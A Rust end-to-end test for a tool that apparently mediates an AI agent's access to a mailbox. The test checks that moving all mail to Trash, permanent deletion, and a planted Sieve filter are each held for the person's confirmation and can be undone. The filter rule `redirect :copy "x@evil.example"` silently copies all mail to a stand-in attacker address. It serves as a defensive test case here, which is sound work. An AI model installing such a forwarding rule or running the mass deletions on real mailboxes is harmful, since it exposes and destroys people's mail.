//! A mailbox over its own protocols, from its address to the undo: the tray, the real engine, a real mail server, and the person's hand.

use std::time::Duration;

use latch_tests::agent::Agent;
use latch_tests::dovecot::{Dovecot, PASSWORD, USER};
use latch_tests::filters::{self, put};
use latch_tests::mail::Client;
use latch_tests::paths;
use latch_tests::ports::free_port;

use crate::rig::{Driver, Kind, Rig};
use crate::whole::{fill, page, press, seen_enough};
use crate::{ASKS, allow};

#[tokio::test]
async fn a_mailbox_from_its_address_to_what_its_agent_did_put_back() {
    let mut rig = Rig::start(Kind::default()).await;
    rig.keyring().await;
    let dovecot = Dovecot::with_filters(false).await;
    let mut person = Client::connect(&format!("127.0.0.1:{}", dovecot.port)).await;
    person.ok(&format!("LOGIN {USER} {PASSWORD}")).await;
    for number in 1..=8 {
        let mail =
            format!("From: Bob <bob@example.net>\r\nTo: erin@example.org\r\nSubject: Plan {number}\r\n\r\nHello.\r\n");
        person.ok(&format!("APPEND INBOX {{{}+}}\r\n{mail}", mail.len())).await;
    }
    let start = dovecot.messages("INBOX");
    let doors = [free_port(), free_port(), free_port()].map(|port| format!("127.0.0.1:{port}"));
    let [http, imap, sieve] = &doors;
    rig.launch_with(
        &["--http", http, "--imap", imap, "--sieve", sieve],
        &[("LATCH_BIN", paths::latch().to_str().unwrap())],
    );
    let driver = rig.driver().await;
    rig.services.click("Open Latchstring").await;
    driver.page("index.html", ".first").await;

    page(&driver, "Accounts").await;
    fill(&driver, "Mail address", "erin@latchstring.invalid").await;
    press(&driver, "Find its servers").await;
    fill(&driver, "Server for reading", "127.0.0.1").await;
    fill(&driver, "Port", &dovecot.port.to_string()).await;
    fill(&driver, "Encryption", "none").await;
    fill(&driver, "Server for mail filters", "127.0.0.1").await;
    fill(&driver, "Port for mail filters", &dovecot.sieve_port.to_string()).await;
    fill(&driver, "Encryption for mail filters", "none").await;
    fill(&driver, "User name there", USER).await;
    fill(&driver, "Short name", "home").await;
    fill(&driver, "Password", "not this one").await;
    rig.picture("mailbox-add");
    driver.accessible().await;
    press(&driver, "Try the login and add").await;
    driver.until("document.body.innerText.includes('does not accept this user name and password')").await;
    rig.picture("mailbox-refused");
    fill(&driver, "Password", PASSWORD).await;
    press(&driver, "Try the login and add").await;
    driver.until("document.body.innerText.includes('Mailbox home was added')").await;

    let token = connected(&driver, &format!("http://{http}")).await;
    let mut agent = Client::connect(imap).await;
    agent.ok(&format!("LOGIN home {token}")).await;
    agent.ok("SELECT INBOX").await;
    let tag = agent.send("UID MOVE 1:* Trash").await;
    let text = asked(&rig, &driver).await;
    assert!(text.contains("8 messages?") && text.contains("Plan 7") && text.contains("Bob"), "{text}");
    assert_eq!(dovecot.messages("INBOX"), start, "held");
    rig.picture("mailbox-trash");
    allow(&rig, &driver).await;
    assert!(agent.end(&tag).await.end.starts_with("OK"));
    rig.no_window(ASKS).await;
    assert_eq!((dovecot.messages("INBOX").len(), dovecot.messages("Trash").len()), (0, 8));

    // Out of the Trash is for ever, but for the copies.
    agent.ok("SELECT Trash").await;
    let tag = agent.send("UID STORE 1:2 +FLAGS.SILENT (\\Deleted)").await;
    asked(&rig, &driver).await;
    allow(&rig, &driver).await;
    assert!(agent.end(&tag).await.end.starts_with("OK"));
    rig.no_window(ASKS).await;
    let tag = agent.send("UID EXPUNGE 1:2").await;
    let text = asked(&rig, &driver).await;
    assert!(text.contains("Delete 2 messages for ever?"), "{text}");
    rig.picture("mailbox-forever");
    allow(&rig, &driver).await;
    assert!(agent.end(&tag).await.end.starts_with("OK"));
    rig.no_window(ASKS).await;
    assert_eq!(dovecot.messages("Trash").len(), 6);
    driver.page("index.html", "nav").await;
    page(&driver, "Settings").await;
    driver.until("document.body.innerText.includes('2 copies')").await;
    driver.client.execute("document.querySelector('#quarantine').scrollIntoView();", vec![]).await.unwrap();
    rig.picture("mailbox-copies");
    driver.accessible().await;

    let mut own = filters::Client::connect(&format!("127.0.0.1:{}", dovecot.sieve_port)).await;
    own.login(USER, PASSWORD).await;
    own.ok(&put("evil", "require \"copy\";\r\nredirect :copy \"x@evil.example\";\r\n")).await;
    let mut filter = filters::Client::connect(sieve).await;
    filter.login("home", &token).await;
    filter.send(&put("main", "require \"include\";\r\ninclude :personal \"evil\";\r\n")).await;
    // The fourth question within a minute opens no window by itself.
    page(&driver, "Overview").await;
    press(&driver, "Review…").await;
    let text = asked(&rig, &driver).await;
    assert!(text.contains("In the included \"evil\"") && text.contains("x@evil.example"), "{text}");
    rig.picture("mailbox-filter");
    driver.accessible().await;
    rig.press(&driver, &rig.window(ASKS).await, "#keep").await;
    assert!(filter.reply().await.starts_with("NO "));
    assert_eq!(dovecot.script("main"), None);
    rig.no_window(ASKS).await;

    for expected in [6, 8] {
        rig.services.click("Put back").await;
        let started = std::time::Instant::now();
        while dovecot.messages("Trash").len() + dovecot.messages("INBOX").len() != expected {
            assert!(started.elapsed() < Duration::from_secs(30), "undo brings back {expected}");
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
    }
}

/// An agent that may ask for everything in the mailbox, and its token.
async fn connected(driver: &Driver, door: &str) -> String {
    page(driver, "Agents").await;
    fill(driver, "Id", "claw").await;
    press(driver, "Connect").await;
    driver.until("document.querySelector('#connected') !== null").await;
    let codes = "return [...document.querySelectorAll('section.warn code')].map(code => code.innerText);";
    let codes = driver.client.execute(codes, vec![]).await.unwrap();
    let (client, secret) = (codes[0].as_str().unwrap(), codes[1].as_str().unwrap());
    fill(driver, "Agent", "claw").await;
    fill(driver, "Account", "home").await;
    driver.client.execute("document.querySelector('input[value=ask-everything]').click();", vec![]).await.unwrap();
    press(driver, "Allow").await;
    driver.until("document.querySelector('.said') !== null").await;
    Agent::anonymous(door).refreshed(client, secret).await
}

/// What the person reads once all of it was seen.
async fn asked(rig: &Rig, driver: &Driver) -> String {
    let window = rig.window(ASKS).await;
    driver.page("confirm.html", "#keep").await;
    rig.x(&["windowactivate", "--sync", &window]);
    seen_enough(driver).await;
    tokio::time::sleep(Duration::from_millis(500)).await;
    driver.text("[role=alertdialog]").await
}
